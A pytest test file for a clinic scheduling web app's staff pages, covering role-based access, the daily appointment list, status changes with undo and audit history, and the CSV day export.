"""The clinic's side of the site: who may open what, the day list, status changes with undo,
the CSV export, booking on behalf of a patient, cancel and reschedule with a reason, the audit
trail, pending documentation, and a day list that costs the same queries whatever the day holds.

Hours and blocked periods are in test_hours.py; the service-level rules in
tests/services/test_staff_actions.py.
"""
import csv
import html as html_lib
import io
import re
from datetime import datetime, timedelta, timezone
from types import SimpleNamespace
from urllib.parse import urljoin
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from clinica_web.extensions import db
from clinica_web.models import (
    ARRIVED,
    CANCELLED,
    COMPLETED,
    NO_SHOW,
    SCHEDULED,
    AccessEvent,
    Appointment,
    AppointmentChange,
    BlockedPeriod,
    Doctor,
    OutboxEmail,
    User,
    WeeklyHours,
)
from clinica_web.services import clinic, tokens
from tests.conftest import TODAY, TZ_NAME, instant, next_weekday

TZ = ZoneInfo(TZ_NAME)
YESTERDAY = TODAY - timedelta(days=1)
TOMORROW = TODAY + timedelta(days=1)
MONDAY = next_weekday(0, weeks=1)  # a Monday 8 to 14 days away: bookable, inside the horizon
HTMX = {"HX-Request": "true"}


# ---------------------------------------------------------------------------------------------
# Helpers


def doctor_user(app, doctor_id):
    with app.app_context():
        return db.session.get(Doctor, doctor_id).user_id


def get(app, model, id_):
    """A detached, fresh copy of one row (or None)."""
    with app.app_context():
        row = db.session.get(model, id_)
        if row is not None:
            db.session.expunge(row)
        return row


def count(app, model, *where):
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(*where))


def text_of(html):
    """The visible text of some HTML, whitespace collapsed."""
    return " ".join(html_lib.unescape(re.sub(r"<[^>]+>", " ", html)).split())


def day_rows(html):
    return re.findall(r'<tr class="status-row-.*?</tr>', html, re.S)


def row_of(html, name):
    """The one day-list row that mentions `name`."""
    [row] = [row for row in day_rows(html) if name in row]
    return row


def row_buttons(row):
    """A day-list row's buttons as {(address, "to" value or None)}: where each posts without
    JavaScript (its formaction, joining the list's form) and with htmx (its hx-post), which must
    agree. The addresses are relative to /desk/, the page the list is shown on, and resolved
    here as a browser would."""
    buttons = set()
    for tag in re.findall(r"<button [^>]*>", row):
        attributes = dict(re.findall(r'([\w-]+)="([^"]*)"', tag))
        assert attributes["form"] == "day-actions" and attributes["formaction"] == attributes["hx-post"], tag
        buttons.add((urljoin("/desk/", attributes["formaction"]), attributes.get("value")))
    return buttons


def row_link(row):
    return urljoin("/desk/", re.search(r'<a href="([^"]+)"[^>]*>', row)[1])


def flashes(html):
    return [text_of(m) for m in re.findall(r'<p class="flash flash-\w+">(.*?)</p>', html, re.S)]


def desk_slot_times(html):
    return re.findall(r'name="time" value="(\d\d:\d\d)" class="slot"', html)


def patient_slot_times(html):
    return re.findall(r'class="slot"[^>]*>(\d\d:\d\d)</a>', html)


def booking_key(html):
    return re.search(r'name="booking_key" type="hidden" value="([^"]+)"', html)[1]


def subject(message):
    """The Subject header. Flask-Mail folds a long one as "Subject:\\r\\n Your ...", which the
    parser reads back with the fold's leading space."""
    return message["Subject"].strip()


def calendar_text(message):
    [part] = [p for p in message.walk() if p.get_content_type() == "text/calendar"]
    return part.get_payload(decode=True).decode()


def everything_in(message):
    chunks = [f"{name}: {value}" for part in message.walk() for name, value in part.items()]
    chunks += [part.get_payload(decode=True).decode() for part in message.walk() if not part.is_multipart()]
    return "\n".join(chunks)


def history(app, appointment_id):
    with app.app_context():
        return [(c.kind, c.from_value, c.to_value, c.reason, c.actor_id) for c in db.session.scalars(
            select(AppointmentChange).where(AppointmentChange.appointment_id == appointment_id)
            .order_by(AppointmentChange.id))]


# ---------------------------------------------------------------------------------------------
# 1. Roles: who may open which desk page


@pytest.fixture
def world(app, make_doctor, make_user, make_appointment, make_block):
    """One doctor with a login, a patient, an appointment of yesterday and one next Monday, a window, a block."""
    doctor_id = make_doctor(with_user=True)
    patient_id = make_user(email="ana@example.com", full_name="Ana Torres")
    past = make_appointment(doctor_id=doctor_id, patient_id=patient_id, day=YESTERDAY, hhmm="10:00")
    future = make_appointment(doctor_id=doctor_id, patient_id=patient_id, day=MONDAY, hhmm="10:00")
    make_block(doctor_id=doctor_id, start=instant(MONDAY + timedelta(days=1), "09:00"),
               end=instant(MONDAY + timedelta(days=1), "12:00"))
    with app.app_context():
        window_id = db.session.scalars(select(WeeklyHours.id).where(WeeklyHours.doctor_id == doctor_id)).first()
        block_id = db.session.scalars(select(BlockedPeriod.id).where(BlockedPeriod.doctor_id == doctor_id)).first()
    return SimpleNamespace(doctor=doctor_id, patient=patient_id, past=past, future=future, window=window_id,
                           block=block_id, doctor_user=doctor_user(app, doctor_id))


# (method, url, form) for every desk route; each form would succeed for a user allowed to send it.
DESK_ROUTES = [
    ("GET", "/desk/", None),
    ("GET", "/desk/day.csv", None),
    ("GET", "/desk/pending-documentation", None),
    ("GET", "/desk/appointments/{past}", None),
    ("POST", "/desk/appointments/{past}/status", {"to": ARRIVED}),
    ("POST", "/desk/appointments/{past}/undo", {}),
    ("POST", "/desk/appointments/{future}/reminders", {"reminders": "off"}),
    ("GET", "/desk/appointments/{future}/cancel", None),
    ("POST", "/desk/appointments/{future}/cancel", {"reason": "Asked by phone"}),
    ("GET", "/desk/appointments/{future}/reschedule", None),
    ("POST", "/desk/appointments/{future}/reschedule",
     {"doctor_id": "{doctor}", "date": MONDAY.isoformat(), "time": "11:00", "reason": "Asked by phone"}),
    ("GET", "/desk/appointments/{past}/documentation", None),
    ("POST", "/desk/appointments/{past}/documentation", {"text": "Seen and treated."}),
    ("GET", "/desk/book", None),
    ("POST", "/desk/book", {"patient_id": "{patient}", "doctor_id": "{doctor}", "date": MONDAY.isoformat(),
                            "time": "09:00", "type": "consultation", "booking_key": "k" * 24}),
    ("POST", "/desk/patients", {"full_name": "New Patient", "email": "new@example.com", "phone": ""}),
    ("GET", "/desk/patients?q=Ana", None),
    ("GET", "/desk/patients/{patient}", None),
    ("GET", "/desk/patients/{patient}/edit", None),
    ("POST", "/desk/patients/{patient}/edit", {"full_name": "Ana Torres", "email": "ana@example.com", "phone": "1"}),
    ("GET", "/desk/hours", None),
    ("GET", "/desk/doctors/{doctor}/hours", None),
    ("POST", "/desk/doctors/{doctor}/hours/windows", {"weekday": "5", "start": "09:00", "end": "10:00"}),
    ("GET", "/desk/hours/windows/{window}/delete", None),
    ("POST", "/desk/hours/windows/{window}/delete", {"back": "/desk/"}),
    ("POST", "/desk/doctors/{doctor}/blocks", {"start_date": MONDAY.isoformat()}),
    ("GET", "/desk/blocks/{block}/delete", None),
    ("POST", "/desk/blocks/{block}/delete", {"back": "/desk/"}),
    ("GET", "/desk/explain?doctor_id={doctor}&date=" + MONDAY.isoformat() + "&time=09:00", None),
    ("GET", "/desk/waitlist", None),
    ("GET", "/desk/timeline?date=" + MONDAY.isoformat(), None),
    ("POST", "/desk/waitlist/offer", {"entry_id": "1", "doctor_id": "{doctor}", "date": MONDAY.isoformat(),
                                      "time": "11:00"}),
]
BOOK_FOR_PATIENT = [route for route in DESK_ROUTES if route[1] in ("/desk/book", "/desk/patients")]


def send(client, world, method, url, form):
    ids = vars(world)
    url = url.format(**ids)
    if method == "GET":
        return client.get(url)
    return client.post(url, data={key: value.format(**ids) for key, value in form.items()})


def snapshot(app):
    """Everything a desk action could change."""
    with app.app_context():
        appointments = db.session.execute(select(
            Appointment.id, Appointment.status, Appointment.starts_at, Appointment.doctor_id, Appointment.documentation,
        ).order_by(Appointment.id)).all()
        return (appointments, count(app, User), count(app, WeeklyHours), count(app, BlockedPeriod),
                count(app, AppointmentChange), count(app, OutboxEmail))


def test_the_role_table_lists_every_desk_route(app):
    """So that a new desk route cannot be added without being checked for roles below."""
    names = {"{past}": "<id:appointment_id>", "{future}": "<id:appointment_id>", "{doctor}": "<id:doctor_id>",
             "{window}": "<id:window_id>", "{block}": "<id:period_id>", "{patient}": "<id:patient_id>"}

    def as_rule(url):
        for placeholder, converter in names.items():
            url = url.replace(placeholder, converter)
        return url

    listed = {(method, as_rule(url).partition("?")[0]) for method, url, _form in DESK_ROUTES}
    routed = {(method, rule.rule) for rule in app.url_map.iter_rules() if rule.endpoint.startswith("desk.")
              for method in rule.methods - {"HEAD", "OPTIONS"}}
    assert listed == routed


def test_patients_get_403_on_every_desk_page_and_action(app, world, login_as):
    client = login_as(world.patient)
    before = snapshot(app)
    for method, url, form in DESK_ROUTES:
        response = send(client, world, method, url, form)
        assert response.status_code == 403, (method, url)
        assert "Not allowed" in response.text
    assert snapshot(app) == before


def test_anonymous_visitors_are_sent_to_log_in(app, world, client):
    before = snapshot(app)
    for method, url, form in DESK_ROUTES:
        response = send(client, world, method, url, form)
        assert response.status_code == 302, (method, url)
        assert response.headers["Location"].startswith("/login"), (method, url)
    assert snapshot(app) == before


def test_doctors_cannot_book_for_patients(app, world, login_as):
    client = login_as(world.doctor_user)
    before = snapshot(app)
    for method, url, form in BOOK_FOR_PATIENT:
        assert send(client, world, method, url, form).status_code == 403, (method, url)
    assert snapshot(app) == before
    assert "Book for a patient" not in client.get("/desk/").text


@pytest.mark.parametrize("role", ["reception", "admin"])
def test_desk_staff_can_book_for_patients(world, staff, login_as, role):
    client = login_as(staff(role))
    assert client.get("/desk/book").status_code == 200
    assert "Book for a patient" in client.get("/desk/").text


def test_documentation_form_is_only_for_the_appointments_own_doctor(app, world, make_doctor, staff, login_as):
    url = f"/desk/appointments/{world.past}/documentation"
    other_doctor = login_as(doctor_user(app, make_doctor(name="Dr. Marco Bianchi", with_user=True)))
    assert other_doctor.get(url).status_code == 404  # they cannot see it at all
    assert other_doctor.post(url, data={"text": "Not mine"}).status_code == 404
    for role in ("reception", "admin"):
        client = login_as(staff(role))
        assert client.get(url).status_code == 403
        assert client.post(url, data={"text": "Not a doctor"}).status_code == 403
    assert get(app, Appointment, world.past).documentation is None
    own = login_as(world.doctor_user)
    assert own.get(url).status_code == 200
    assert own.post(url, data={"text": "Seen."}).status_code == 303
    assert get(app, Appointment, world.past).documentation == "Seen."


def test_a_doctor_sees_only_their_own_appointments(app, make_doctor, make_user, make_appointment, login_as):
    mine = make_doctor(name="Dr. Laura Rossi", with_user=True)
    theirs = make_doctor(name="Dr. Marco Bianchi", with_user=True)
    own_patient = make_user(full_name="Olga Own")
    other_patient = make_user(full_name="Ivan Other")
    own = make_appointment(doctor_id=mine, patient_id=own_patient, day=YESTERDAY, hhmm="09:00")
    other = make_appointment(doctor_id=theirs, patient_id=other_patient, day=YESTERDAY, hhmm="09:00")
    client = login_as(doctor_user(app, mine))

    day = client.get(f"/desk/?date={YESTERDAY}").text
    assert "Olga Own" in day and "Ivan Other" not in day and "Dr. Marco Bianchi" not in day
    # Asking for the other doctor's list shows nothing of theirs.
    assert "Ivan Other" not in client.get(f"/desk/?date={YESTERDAY}&doctor_id={theirs}").text
    exported = client.get(f"/desk/day.csv?date={YESTERDAY}").text
    assert "Olga Own" in exported and "Ivan Other" not in exported
    pending = client.get("/desk/pending-documentation").text
    assert "Olga Own" in pending and "Ivan Other" not in pending

    assert client.get(f"/desk/appointments/{own}").status_code == 200
    for method, url, form in [("GET", "", None), ("GET", "/cancel", None), ("GET", "/reschedule", None),
                              ("POST", "/status", {"to": ARRIVED}), ("POST", "/cancel", {"reason": "x"})]:
        response = client.open(f"/desk/appointments/{other}{url}", method=method, data=form)
        assert response.status_code == 404, (method, url)
    assert get(app, Appointment, other).status == SCHEDULED


def test_reception_sees_every_doctors_appointments(app, make_doctor, make_user, make_appointment, desk):
    for name, patient in (("Dr. Laura Rossi", "Olga Own"), ("Dr. Marco Bianchi", "Ivan Other")):
        make_appointment(doctor_id=make_doctor(name=name), patient_id=make_user(full_name=patient), day=YESTERDAY,
                         hhmm="09:00")
    day = desk.client.get(f"/desk/?date={YESTERDAY}").text
    assert "Olga Own" in day and "Ivan Other" in day


# ---------------------------------------------------------------------------------------------
# 2. The day list


def test_day_list_defaults_to_the_clinics_today(app, make_doctor, make_user, make_appointment, desk, monkeypatch):
    """At 22:30 in Santiago it is already tomorrow in UTC: the list shows the clinic's date."""
    doctor_id = make_doctor()
    local_evening = datetime(2026, 11, 20, 22, 30, tzinfo=TZ)  # Friday; 01:30 UTC on Saturday
    monkeypatch.setattr(clinic, "now", lambda: local_evening.astimezone(timezone.utc))
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Friday Late"),
                     day=local_evening.date(), hhmm="23:30")
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Saturday Early"),
                     day=local_evening.date() + timedelta(days=1), hhmm="00:15")
    page = desk.client.get("/desk/").text
    assert "Day list: Friday 20 November 2026" in page
    assert "Friday Late" in page and "23:30" in page
    assert "Saturday Early" not in page


def test_day_list_today_without_a_date(make_doctor, make_user, make_appointment, desk):
    make_appointment(doctor_id=make_doctor(), patient_id=make_user(full_name="Tess Today"), day=TODAY, hhmm="12:00")
    make_appointment(doctor_id=make_doctor(name="Dr. B"), patient_id=make_user(full_name="Tom Tomorrow"),
                     day=TOMORROW, hhmm="12:00")
    page = desk.client.get("/desk/").text
    assert f"Day list: {TODAY:%A %d %B %Y}" in page
    assert "Tess Today" in page and "Tom Tomorrow" not in page


def test_day_list_filters_by_date_and_doctor(make_doctor, make_user, make_appointment, desk):
    rossi = make_doctor(name="Dr. Laura Rossi")
    bianchi = make_doctor(name="Dr. Marco Bianchi")
    make_appointment(doctor_id=rossi, patient_id=make_user(full_name="Rosa Rossi-Patient"), day=TOMORROW, hhmm="09:00")
    make_appointment(doctor_id=bianchi, patient_id=make_user(full_name="Bruno Bianchi-Patient"), day=TOMORROW,
                     hhmm="09:00")
    make_appointment(doctor_id=rossi, patient_id=make_user(full_name="Yara Yesterday"), day=YESTERDAY, hhmm="09:00")
    tomorrow = desk.client.get(f"/desk/?date={TOMORROW}").text
    assert "Rosa Rossi-Patient" in tomorrow and "Bruno Bianchi-Patient" in tomorrow
    assert "Yara Yesterday" not in tomorrow
    # The tab says the day as people read it, as the timeline's does.
    assert f"<title>Day list {TOMORROW:%a %d %b %Y} · " in tomorrow
    assert f"<title>Timeline {TOMORROW:%a %d %b %Y} · " in desk.client.get(f"/desk/timeline?date={TOMORROW}").text
    only_bianchi = desk.client.get(f"/desk/?date={TOMORROW}&doctor_id={bianchi}").text
    assert "Bruno Bianchi-Patient" in only_bianchi and "Rosa Rossi-Patient" not in only_bianchi
    assert f'<option value="{bianchi}" selected>' in only_bianchi
    assert "Yara Yesterday" in desk.client.get(f"/desk/?date={YESTERDAY}").text


def test_day_list_covers_the_whole_local_day(make_doctor, make_user, make_appointment, desk):
    """23:45 in Santiago is 02:45 UTC the next day: still on this day's list, not the next.
    (A Monday: Chile changes its clocks at midnight on weekends, when 00:00 may not exist.)"""
    doctor_id = make_doctor()
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Early Bird"), day=MONDAY, hhmm="00:00")
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Night Owl"), day=MONDAY, hhmm="23:45",
                     duration=15)
    page = desk.client.get(f"/desk/?date={MONDAY}").text
    assert "Early Bird" in page and "Night Owl" in page
    following = desk.client.get(f"/desk/?date={MONDAY + timedelta(days=1)}").text
    assert "Night Owl" not in following


def test_day_list_rows_show_time_patient_visit_status_and_actions(make_doctor, make_user, make_appointment, desk,
                                                                  clock):
    clock.set(instant(TOMORROW, "09:00"))  # a quarter of an hour before the first visit: arrival can be marked
    doctor_id = make_doctor()
    ana = make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Ana Torres", phone="+56 9 1234 5678"),
                           day=TOMORROW, hhmm="09:15", duration=60, appointment_type="therapy")
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Ben Ortiz"), day=TOMORROW, hhmm="11:00",
                     status=ARRIVED, appointment_type="follow_up", duration=15)
    page = desk.client.get(f"/desk/?date={TOMORROW}").text
    row = row_of(page, "Ana Torres")
    assert row_link(row) == f"/desk/appointments/{ana}"
    assert text_of(row).startswith("09:15 Ana Torres +56 9 1234 5678 Therapy, 60 min Scheduled")
    # Not "completed" before arriving, and nothing to undo yet.
    status_url = f"/desk/appointments/{ana}/status"
    assert row_buttons(row) == {(status_url, ARRIVED), (status_url, NO_SHOW)}
    arrived = text_of(row_of(page, "Ben Ortiz"))
    assert "11:00 Ben Ortiz Follow-up, 15 min Arrived" in arrived and "Completed" in arrived
    assert "No-show" not in arrived
    # Time order within the doctor's table.
    assert page.index("Ana Torres") < page.index("Ben Ortiz")


def test_scheduled_appointment_past_its_start_shows_late(make_doctor, make_user, make_appointment, desk):
    doctor_id = make_doctor()
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Lena Late"), day=YESTERDAY, hhmm="09:00")
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Arno Arrived"), day=YESTERDAY, hhmm="10:00",
                     status=ARRIVED)
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Fred Future"), day=TOMORROW, hhmm="09:00")
    yesterday = desk.client.get(f"/desk/?date={YESTERDAY}").text
    assert "Late" in text_of(row_of(yesterday, "Lena Late"))
    assert "Late" not in text_of(row_of(yesterday, "Arno Arrived"))
    assert "Late" not in text_of(row_of(desk.client.get(f"/desk/?date={TOMORROW}").text, "Fred Future"))


def test_htmx_refresh_gets_the_partial_and_only_the_page_refreshes_itself(make_doctor, make_user, make_appointment,
                                                                          desk):
    make_appointment(doctor_id=make_doctor(), patient_id=make_user(full_name="Ana Torres"), day=TOMORROW, hhmm="09:00")
    page = desk.client.get(f"/desk/?date={TOMORROW}")
    partial = desk.client.get(f"/desk/?date={TOMORROW}", headers=HTMX)
    assert "<html" in page.text and 'hx-trigger="every 30s"' in page.text
    assert f'hx-get="/desk/?date={TOMORROW}"' in page.text
    assert partial.status_code == 200
    assert "<html" not in partial.text and "hx-trigger" not in partial.text  # no nested poller
    assert "Ana Torres" in partial.text
    assert day_rows(partial.text) == day_rows(page.text)
    assert "HX-Request" in partial.headers["Vary"]


@pytest.mark.parametrize("bad", ["tomorrow", "2026-02-30", "2026-1-5", "20261105"])
def test_bad_date_is_a_400(desk, bad):
    for url in (f"/desk/?date={bad}", f"/desk/day.csv?date={bad}"):
        response = desk.client.get(url)
        assert response.status_code == 400
        assert "Invalid date format (YYYY-MM-DD)" in response.text


def test_odd_ids_in_the_query_are_ignored_not_errors(desk):
    """"²" is a digit to str.isdigit() but not to int(): it once made a 500."""
    for value in ("%C2%B2", "-1", "0", "99999999999999999999", "abc", "1.5"):
        for url in (f"/desk/?date={TOMORROW}&doctor_id={value}", f"/desk/day.csv?doctor_id={value}",
                    f"/desk/pending-documentation?doctor_id={value}", f"/desk/book?patient_id={value}"):
            assert desk.client.get(url).status_code == 200, url


def test_empty_day_says_so(desk):
    assert "No appointments on this day." in desk.client.get(f"/desk/?date={TOMORROW}").text


# ---------------------------------------------------------------------------------------------
# 3. Status changes, undo, history


@pytest.fixture
def visit(make_doctor, make_user, make_appointment, clock):
    """An appointment of yesterday at 09:00, still scheduled, and the clock at 09:05 that day (the
    desk marks a visit on its day)."""
    clock.set(instant(YESTERDAY, "09:05"))
    doctor_id = make_doctor()
    patient_id = make_user(full_name="Ana Torres", email="ana@example.com")
    return make_appointment(doctor_id=doctor_id, patient_id=patient_id, day=YESTERDAY, hhmm="09:00")


def set_status(client, appointment_id, to, **extra):
    return client.post(f"/desk/appointments/{appointment_id}/status", data={"to": to, **extra.pop("data", {})},
                       **extra)


def test_a_later_days_visit_offers_no_status_step_and_refuses_one(app, desk, make_doctor, make_user,
                                                                  make_appointment, clock):
    """Tomorrow's visit: neither the day list nor the detail page offers arrived or no-show, and a
    hand-made request is refused with the reason; on the day, 15 minutes before, both are offered."""
    visit_id = make_appointment(doctor_id=make_doctor(), patient_id=make_user(full_name="Ana Torres"), day=TOMORROW,
                                hhmm="09:00")
    clock.set(instant(TOMORROW, "08:44"))  # still a minute too early
    day_url, detail_url = f"/desk/?date={TOMORROW}", f"/desk/appointments/{visit_id}"
    assert row_buttons(row_of(desk.client.get(day_url).text, "Ana Torres")) == set()
    assert "Mark arrived" not in desk.client.get(detail_url).text
    refused = set_status(desk.client, visit_id, ARRIVED, headers=HTMX)
    assert "Arrival and no-show can be marked from 15 minutes before the visit" in text_of(refused.text)
    clock.set(instant(TODAY, "12:00"))
    refused = set_status(desk.client, visit_id, NO_SHOW, headers=HTMX)
    assert "This visit is on a later day" in text_of(refused.text)
    assert get(app, Appointment, visit_id).status == SCHEDULED and history(app, visit_id) == []

    clock.set(instant(TOMORROW, "08:45"))
    status_url = f"/desk/appointments/{visit_id}/status"
    assert row_buttons(row_of(desk.client.get(day_url).text, "Ana Torres")) == {(status_url, ARRIVED),
                                                                                (status_url, NO_SHOW)}
    detail = desk.client.get(detail_url).text
    assert "Mark arrived" in detail and "Mark no-show" in detail and "Mark completed" not in detail


def test_arrived_then_completed_redirects_back_to_the_day(app, desk, visit):
    response = set_status(desk.client, visit, ARRIVED)
    assert response.status_code == 303
    # The day page says what changed (at its top, where it opens).
    assert response.headers["Location"] == f"/desk/?date={YESTERDAY}"
    assert get(app, Appointment, visit).status == ARRIVED
    page = desk.client.get(response.headers["Location"]).text
    assert "Arrived" in text_of(row_of(page, "Ana Torres"))
    assert flashes(page) == ["Ana Torres, 09:00: arrived"]
    assert set_status(desk.client, visit, COMPLETED).status_code == 303
    assert get(app, Appointment, visit).status == COMPLETED


def test_status_action_keeps_the_doctor_filter(desk, visit, app):
    with app.app_context():
        doctor_id = db.session.get(Appointment, visit).doctor_id
    response = set_status(desk.client, visit, ARRIVED, data={"doctor_id": str(doctor_id)})
    assert response.headers["Location"] == f"/desk/?date={YESTERDAY}&doctor_id={doctor_id}"


def test_no_show_with_htmx_returns_the_updated_partial(app, desk, visit):
    """The row's buttons are replaced: its time link takes the focus (htmx focuses autofocus), and
    what changed is put into the page's live flash area, which stays (innerHTML), to be read out."""
    response = set_status(desk.client, visit, NO_SHOW, headers=HTMX)
    assert response.status_code == 200
    assert re.findall(r'<a [^>]*autofocus[^>]*>', response.text) == [
        f'<a href="appointments/{visit}" id="visit-{visit}" autofocus>']
    assert '<div id="flash" role="status" aria-live="polite" hx-swap-oob="innerHTML">' in response.text
    assert "Ana Torres, 09:00: no show" in text_of(response.text)
    assert "autofocus" not in desk.client.get(f"/desk/?date={YESTERDAY}", headers=HTMX).text  # the refresh
    assert "<html" not in response.text
    row = text_of(row_of(response.text, "Ana Torres"))
    assert "No show" in row and "Late" not in row
    assert (f"/desk/appointments/{visit}/undo", None) in row_buttons(row_of(response.text, "Ana Torres"))
    assert get(app, Appointment, visit).status == NO_SHOW


@pytest.mark.parametrize("start, to, message", [
    (COMPLETED, ARRIVED, "An appointment that is completed cannot become arrived"),
    (NO_SHOW, COMPLETED, "An appointment that is no show cannot become completed"),
    (SCHEDULED, COMPLETED, "An appointment that is scheduled cannot become completed"),
    (CANCELLED, ARRIVED, "An appointment that is cancelled cannot become arrived"),
    (SCHEDULED, "teleported", "An appointment that is scheduled cannot become teleported"),
    (SCHEDULED, "", "cannot become"),
])
def test_invalid_status_change_is_refused_with_a_message(app, desk, make_doctor, make_user, make_appointment,
                                                         start, to, message):
    appointment_id = make_appointment(doctor_id=make_doctor(), patient_id=make_user(full_name="Ana Torres"),
                                      day=YESTERDAY, hhmm="09:00", status=start)
    response = set_status(desk.client, appointment_id, to)
    assert response.status_code == 303
    assert message in flashes(desk.client.get(response.headers["Location"]).text)[0]
    assert get(app, Appointment, appointment_id).status == start
    assert history(app, appointment_id) == []


def test_invalid_status_change_with_htmx_shows_the_message_in_the_partial(
        app, desk, make_doctor, make_user, make_appointment):
    """With htmx the page is not reloaded: the refusal must arrive with the partial that replaces the list."""
    appointment_id = make_appointment(doctor_id=make_doctor(), patient_id=make_user(full_name="Ana Torres"),
                                      day=YESTERDAY, hhmm="09:00", status=COMPLETED)
    response = set_status(desk.client, appointment_id, ARRIVED, headers=HTMX)
    assert response.status_code == 200 and "<html" not in response.text
    assert "An appointment that is completed cannot become arrived" in text_of(response.text)
    assert 'id="flash"' in response.text and 'hx-swap-oob="innerHTML"' in response.text
    # Shown once: not again on the next page.
    assert flashes(desk.client.get(f"/desk/?date={YESTERDAY}").text) == []
    assert get(app, Appointment, appointment_id).status == COMPLETED


def test_day_list_buttons_post_where_they_say(app, desk, visit):
    """Without JavaScript a row's button submits the list's one form (its CSRF token) to the
    button's own formaction, resolved against the day list's address, with the button's to=...;
    Undo has its own formaction."""
    day_url = f"/desk/?date={YESTERDAY}"
    page = desk.client.get(day_url).text
    form = re.search(r'<form id="day-actions" method="post"[^>]*>(.*?)</form>', page, re.S)
    assert 'name="csrf_token"' in form[1]
    [action] = [address for address, to in row_buttons(row_of(page, "Ana Torres")) if to == ARRIVED]
    assert desk.client.post(action, data={"to": ARRIVED}).status_code == 303
    assert get(app, Appointment, visit).status == ARRIVED

    [undo] = [address for address, _to in row_buttons(row_of(desk.client.get(day_url).text, "Ana Torres"))
              if address.endswith("/undo")]
    assert desk.client.post(undo).status_code == 303
    assert get(app, Appointment, visit).status == SCHEDULED
    assert [kind for kind, *_ in history(app, visit)] == ["status", "status_undo"]


def test_undo_reverts_the_last_status_change_once(app, desk, visit):
    arrived = set_status(desk.client, visit, ARRIVED)
    assert flashes(desk.client.get(arrived.headers["Location"]).text) == ["Ana Torres, 09:00: arrived"]
    undone = desk.client.post(f"/desk/appointments/{visit}/undo")
    assert undone.status_code == 303 and undone.headers["Location"] == f"/desk/?date={YESTERDAY}"
    assert get(app, Appointment, visit).status == SCHEDULED
    assert flashes(desk.client.get(undone.headers["Location"]).text) == ["Ana Torres, 09:00: scheduled"]
    again = desk.client.post(f"/desk/appointments/{visit}/undo")
    assert flashes(desk.client.get(again.headers["Location"]).text) == ["There is no status change to undo"]
    assert get(app, Appointment, visit).status == SCHEDULED
    assert [kind for kind, *_ in history(app, visit)] == ["status", "status_undo"]


def test_undo_of_completed_goes_back_one_step(app, desk, visit):
    set_status(desk.client, visit, ARRIVED)
    set_status(desk.client, visit, COMPLETED)
    desk.client.post(f"/desk/appointments/{visit}/undo")
    assert get(app, Appointment, visit).status == ARRIVED


def test_undo_is_offered_only_after_a_status_change(app, desk, visit):
    undo_button = (f"/desk/appointments/{visit}/undo", None)
    detail_undo = "Undo last status change"
    day_url, detail_url = f"/desk/?date={YESTERDAY}", f"/desk/appointments/{visit}"

    def day_list_offers_undo():
        return undo_button in row_buttons(row_of(desk.client.get(day_url).text, "Ana Torres"))

    assert not day_list_offers_undo()
    assert detail_undo not in desk.client.get(detail_url).text

    set_status(desk.client, visit, ARRIVED)
    assert day_list_offers_undo()
    assert detail_undo in desk.client.get(detail_url).text

    # A cancellation is the last change now: nothing to undo.
    assert desk.client.post(f"/desk/appointments/{visit}/cancel",
                            data={"reason": "patient_called", "note": "Left"}).status_code == 303
    assert not day_list_offers_undo()
    assert detail_undo not in desk.client.get(detail_url).text
    desk.client.post(f"/desk/appointments/{visit}/undo")
    assert get(app, Appointment, visit).status == CANCELLED


def test_every_change_is_on_the_detail_pages_history(app, desk, visit, staff, login_as):
    other = login_as(staff("admin", full_name="Adam Admin"))
    set_status(desk.client, visit, ARRIVED, data={"next": "detail"})
    other.post(f"/desk/appointments/{visit}/undo")
    set_status(desk.client, visit, ARRIVED)
    desk.client.post(f"/desk/appointments/{visit}/cancel",
                     data={"reason": "patient_called", "note": "Felt unwell, went home"})
    page = desk.client.get(f"/desk/appointments/{visit}").text
    rows = [text_of(row) for row in re.findall(r"<tr>\s*<td>.*?</tr>", page.split('id="history-heading"')[1], re.S)]
    assert len(rows) == 4
    assert rows[0].endswith("Rita Desk Status: scheduled → arrived")
    assert rows[1].endswith("Adam Admin Undid status: arrived → scheduled")
    assert rows[2].endswith("Rita Desk Status: scheduled → arrived")
    assert rows[3].endswith("Rita Desk Cancelled: arrived → cancelled Patient called: Felt unwell, went home")
    assert "Cancelled because" in page and "Felt unwell, went home" in page


def test_status_from_the_detail_page_returns_to_it(desk, visit):
    response = set_status(desk.client, visit, ARRIVED, data={"next": "detail"})
    assert response.headers["Location"] == f"/desk/appointments/{visit}"


# ---------------------------------------------------------------------------------------------
# 4. CSV export


def test_csv_has_a_header_and_one_row_per_appointment(app, make_doctor, make_user, make_appointment, desk):
    rossi = make_doctor(name="Dr. Laura Rossi")
    bianchi = make_doctor(name="Dr. Marco Bianchi")
    make_appointment(doctor_id=rossi, patient_id=make_user(full_name="Ana Torres", email="ana@example.com",
                                                           phone="2 2345 6789"),
                     day=TOMORROW, hhmm="09:30", duration=45, appointment_type="procedure")
    make_appointment(doctor_id=bianchi, patient_id=make_user(full_name="Ben Ortiz", email="ben@example.com"),
                     day=TOMORROW, hhmm="08:00", status=ARRIVED)
    make_appointment(doctor_id=bianchi, patient_id=make_user(full_name="Not Today"), day=TODAY, hhmm="08:00")
    response = desk.client.get(f"/desk/day.csv?date={TOMORROW}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="clinica-{TOMORROW}.csv"'
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows == [
        ["Date", "Time", "Doctor", "Patient", "Phone", "Email", "Visit", "Minutes", "Status", "Cancellation"],
        [str(TOMORROW), "09:30", "Dr. Laura Rossi", "Ana Torres", "2 2345 6789", "ana@example.com", "Procedure", "45",
         "Scheduled", ""],
        [str(TOMORROW), "08:00", "Dr. Marco Bianchi", "Ben Ortiz", "", "ben@example.com", "Consultation", "30",
         "Arrived", ""],
    ]
    only_bianchi = list(csv.reader(io.StringIO(desk.client.get(f"/desk/day.csv?date={TOMORROW}&doctor_id={bianchi}")
                                               .text)))
    assert [row[3] for row in only_bianchi[1:]] == ["Ben Ortiz"]


